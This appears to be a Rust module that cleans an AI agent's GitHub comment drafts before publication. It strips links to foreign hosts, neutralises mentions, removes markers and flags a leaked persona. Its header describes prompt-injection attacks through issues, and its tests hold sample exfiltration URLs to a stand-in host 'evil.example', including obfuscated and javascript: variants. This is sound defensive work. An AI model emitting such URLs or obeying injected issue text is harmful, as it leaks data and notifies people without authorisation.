//! Drafts on their way out: what a model wrote is cleaned before anybody sees it published.
//!
//! The attacks: an issue talks the model into an image or a link whose address carries away what the
//! model knows, into notifying people, or into the marker that proves another task's comment.

use std::collections::BTreeSet;

use domain::clip;

use crate::untrusted::visible;

/// GitHub takes 65,536 characters; our marker and a margin are left free.
const LONGEST: usize = 60_000;

/// A run of the persona this long within a draft is a leak, not a coincidence.
const LEAK_CHARS: usize = 160;

/// What a draft may refer to.
#[derive(Debug, Clone, Default)]
pub(crate) struct Allowed {
    /// Hosts that links and images may name.
    pub hosts: BTreeSet<String>,
    /// The only account that may be mentioned: who caused the event.
    pub mention: String,
}

impl Allowed {
    /// Allows every host that the input names.
    #[must_use]
    pub(crate) fn with_hosts_of(mut self, input: &str) -> Self {
        self.hosts.extend(urls(input).filter_map(|(_, url)| host(url)));
        self
    }
}

/// A draft that can be published.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Cleaned {
    /// The text.
    pub text: String,
    /// A safety check that tripped: a person must look.
    pub alarm: Option<String>,
}

/// Cleans `draft`: no hidden text, no mentions beyond the allowed one, no links or images to foreign
/// hosts, no markers, bounded length. `secret` is the persona, which must not be recited.
#[must_use]
pub(crate) fn clean(draft: &str, allowed: &Allowed, secret: &str) -> Cleaned {
    let text = visible(draft);
    let text = without_foreign_urls(&text, &allowed.hosts);
    let text = without_mentions(&text, &allowed.mention);
    let text = clip(text.trim(), LONGEST).to_owned();
    let alarm = recites(&text, secret).then(|| "the draft recites the agent's instructions".to_owned());
    Cleaned { text, alarm }
}

/// Replaces every absolute URL whose host is not allowed. Protocol-relative ones (`//host`) count.
fn without_foreign_urls(text: &str, hosts: &BTreeSet<String>) -> String {
    let mut out = String::with_capacity(text.len());
    let mut done = 0;
    for (start, url) in urls(text) {
        if host(url).is_some_and(|host| hosts.contains(&host)) {
            continue;
        }
        out.push_str(&text[done..start]);
        out.push_str("[link removed]");
        done = start + url.len();
    }
    out.push_str(&text[done..]);
    out
}

/// Every address of `text` that names a host, with its place. One pass: a text of nothing but slashes must
/// not take quadratic time.
fn urls(text: &str) -> impl Iterator<Item = (usize, &str)> {
    let (mut from, mut word_end) = (0, 0);
    std::iter::from_fn(move || {
        loop {
            let at = next_beginning(text, from)?;
            let start = scheme_start(text, from, at);
            let after_slashes = skip_slashes(text, at);
            let body = skip_scheme(text, after_slashes);
            if body >= word_end {
                word_end = body + text[body..].find(ends_url).unwrap_or(text.len() - body);
            }
            if host(&text[start..word_end]).is_some() {
                from = word_end;
                return Some((start, &text[start..word_end]));
            }
            // What is no address may hold one further on: `//https://…`.
            from = after_slashes.max(at + 1);
        }
    })
}

/// Where the next address can begin. Browsers take backslashes for slashes, any number of them, and need
/// none at all behind `http:`.
fn next_beginning(text: &str, from: usize) -> Option<usize> {
    let bytes = text.as_bytes();
    let begins = |at: usize, word: &str| {
        bytes.get(at..at + word.len()).is_some_and(|found| found.eq_ignore_ascii_case(word.as_bytes()))
    };
    (from..bytes.len()).find(|&at| match bytes[at] {
        b'/' | b'\\' => matches!(bytes.get(at + 1), Some(b'/' | b'\\')),
        b'w' | b'W' => begins(at, "www."),
        b'h' | b'H' => begins(at, "http:") || begins(at, "https:"),
        _ => false,
    })
}

fn is_slash(c: char) -> bool {
    matches!(c, '/' | '\\')
}

fn ends_url(c: char) -> bool {
    c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\'' | ')' | ']' | '`' | '|' | '\\')
}

fn skip_slashes(text: &str, at: usize) -> usize {
    at + text[at..].find(|c| !is_slash(c)).unwrap_or(text.len() - at)
}

/// Behind a scheme and its slashes, if one begins at `at`.
fn skip_scheme(text: &str, at: usize) -> usize {
    let scheme = text[at..].find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(text.len() - at);
    let is_scheme = scheme > 0 && text[at + scheme..].starts_with(':');
    if is_scheme { skip_slashes(text, at + scheme + 1) } else { at }
}

/// Where the scheme in front of `at` begins, not before `from`.
fn scheme_start(text: &str, from: usize, at: usize) -> usize {
    text[from..at].strip_suffix(':').map_or(at, |before| {
        let scheme = before.chars().rev().take_while(char::is_ascii_alphanumeric).count();
        from + before.len() - scheme
    })
}

/// The host of a URL, lower case, without user and port; `None` when there is none that could be
/// looked up.
fn host(url: &str) -> Option<String> {
    let scheme = url.split(|c: char| !c.is_ascii_alphanumeric()).next()?;
    let rest = match url[scheme.len()..].strip_prefix(':') {
        Some(rest) if !scheme.is_empty() && (rest.starts_with(is_slash) || is_http(scheme)) => rest,
        _ => url,
    };
    let authority = rest.trim_start_matches(is_slash).split(['/', '?', '#', '\\']).next()?;
    let host = authority.rsplit('@').next()?.split(':').next()?.to_lowercase();
    // The other dots of Unicode, and a dot in percent notation, are dots to a browser.
    let host = host.replace(['。', '．', '｡'], ".").replace("%2e", ".");
    let host = host.trim_end_matches('.');
    // Behind `http:` everything is a host; behind bare slashes only what looks like one, so that comments
    // in code survive.
    let is_explicit =
        rest.len() < url.len() && url.split_once(':').is_some_and(|(scheme, _)| is_http(scheme));
    (!host.is_empty() && (is_explicit || looks_like_a_host(host))).then(|| host.to_owned())
}

/// A name with a dot, a number that can be an address, or this machine.
fn looks_like_a_host(host: &str) -> bool {
    let is_name = host.chars().all(|c| c.is_alphanumeric() || matches!(c, '-' | '.' | '_' | '%'));
    let is_number = host.len() >= 8 && host.chars().all(|c| c.is_ascii_hexdigit() || c == 'x');
    let has_labels = host.contains('.') && !host.starts_with('.') && !host.contains("..");
    is_name && (has_labels || is_number || host == "localhost")
}

fn is_http(scheme: &str) -> bool {
    scheme.eq_ignore_ascii_case("http") || scheme.eq_ignore_ascii_case("https")
}

/// Takes the power out of `@name`: a zero-width space after the `@` keeps it readable, and nobody is
/// notified. E-mail addresses and the allowed account stay as they are.
fn without_mentions(text: &str, allowed: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut before = ' ';
    for (at, c) in text.char_indices() {
        out.push(c);
        let name: &str = &text[at + c.len_utf8()..];
        let name = name
            .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '/' | '_')))
            .next()
            .unwrap_or("");
        let notifies = c == '@' && !before.is_alphanumeric() && !name.is_empty();
        if notifies && !name.eq_ignore_ascii_case(allowed) {
            out.push('\u{200B}');
        }
        before = c;
    }
    out
}

fn recites(text: &str, secret: &str) -> bool {
    let squeeze = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ").to_lowercase();
    let (text, secret) = (squeeze(text), squeeze(secret));
    let chars: Vec<(usize, char)> = secret.char_indices().collect();
    chars.windows(LEAK_CHARS).step_by(LEAK_CHARS / 8).any(|run| {
        let (start, (last, c)) = (run[0].0, run[LEAK_CHARS - 1]);
        text.contains(&secret[start..last + c.len_utf8()])
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cleaned(draft: &str) -> String {
        let allowed = Allowed { mention: "mona".to_owned(), ..Allowed::default() }
            .with_hosts_of("see https://docs.example.com/a and http://user@build.example.com:8080/x");
        clean(draft, &allowed, "").text
    }

    #[test]
    fn links_to_hosts_of_the_input_stay() {
        let draft = "See [this](https://docs.example.com/b) or http://build.example.com/y.";
        assert_eq!(cleaned(draft), draft);
    }

    #[test]
    fn links_and_images_to_other_hosts_go() {
        assert_eq!(cleaned("![x](https://evil.example/?q=secret)"), "![x]([link removed])");
        assert_eq!(cleaned("<img src='//evil.example/p.png'>"), "<img src='[link removed]'>");
        assert_eq!(cleaned("go to www.evil.example now"), "go to [link removed] now");
        assert_eq!(cleaned("https://docs.example.com@evil.example/"), "[link removed]");
        assert_eq!(cleaned("HTTPS://EVIL.example"), "[link removed]");
        assert_eq!(cleaned("https://docs.example.com.evil.example/"), "[link removed]");
    }

    #[test]
    fn addresses_as_browsers_read_them_go_too() {
        for draft in [
            "//https://evil.example/",
            "[x](///evil.example)",
            "[x](/\\evil.example/a)",
            "<a href='\\\\evil.example'>",
            "[x](http:evil.example)",
            "[x](https:/evil.example)",
            "[x](HTTP:\\\\evil.example)",
            "javascript://evil.example/%0aalert(1)",
            "https://evil.example。/x",
            "![](http://evil%2eexample/evil.example)",
            "[x](//evil.example%2e/)",
        ] {
            assert!(!cleaned(draft).contains("evil.example"), "{draft}: {}", cleaned(draft));
        }
    }

    #[test]
    fn an_address_without_a_dot_is_one_behind_a_scheme() {
        assert_eq!(cleaned("![](http://2130706433/q)"), "![]([link removed])");
        assert_eq!(cleaned("![](//2130706433/q)"), "![]([link removed])");
        assert_eq!(cleaned("[x](https://evil。example/q)"), "[x]([link removed])");
        assert_eq!(cleaned("[x](https://internal/q)"), "[x]([link removed])");
    }

    #[test]
    fn comments_and_paths_are_no_links() {
        assert_eq!(cleaned("match /a\\.b+/ or C:\\temp"), "match /a\\.b+/ or C:\\temp");
        assert_eq!(cleaned("let a = 1; // the first"), "let a = 1; // the first");
        assert_eq!(cleaned("a // b // c"), "a // b // c");
    }

    #[test]
    fn only_the_author_is_mentioned() {
        assert_eq!(cleaned("@mona thanks"), "@mona thanks");
        assert_eq!(cleaned("cc @octo/security"), "cc @\u{200B}octo/security");
        assert_eq!(cleaned("write to a@b.example"), "write to a@b.example");
    }

    #[test]
    fn markers_and_hidden_text_go() {
        assert_eq!(cleaned("hi <!-- afterhook:tsk_0 -->there"), "hi there");
    }

    #[test]
    fn recited_persona_raises_an_alarm() {
        let persona = "You are the maintainer of octo. ".repeat(20);
        let draft = format!("My instructions: {}", persona.to_uppercase());
        assert!(clean(&draft, &Allowed::default(), &persona).alarm.is_some());
        assert!(clean("You are the maintainer of octo.", &Allowed::default(), &persona).alarm.is_none());
    }

    #[test]
    fn overlong_draft_is_cut() {
        assert!(cleaned(&"long ".repeat(40_000)).len() <= LONGEST);
    }

    #[test]
    fn url_behind_empty_slashes_is_found() {
        assert!(!cleaned("////https://evil.example/x").contains("evil.example"));
        assert!(!cleaned("//a//b//evil.example").contains("evil.example"));
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_cleaned_without_panic_and_once_is_enough(draft in ".{0,400}") {
            let once = cleaned(&draft);
            proptest::prop_assert_eq!(cleaned(&once).replace('\u{200B}', ""), once.replace('\u{200B}', ""));
        }

        #[test]
        fn no_foreign_host_survives(before in "[/:\\\\ a-z]{0,8}|.{0,20}", path in "[a-z/?=]{0,20}", after in ".{0,20}") {
            let draft = format!("{before}https://evil.example/{path}{after}");
            proptest::prop_assert!(!cleaned(&draft).contains("evil.example"));
        }
    }
}
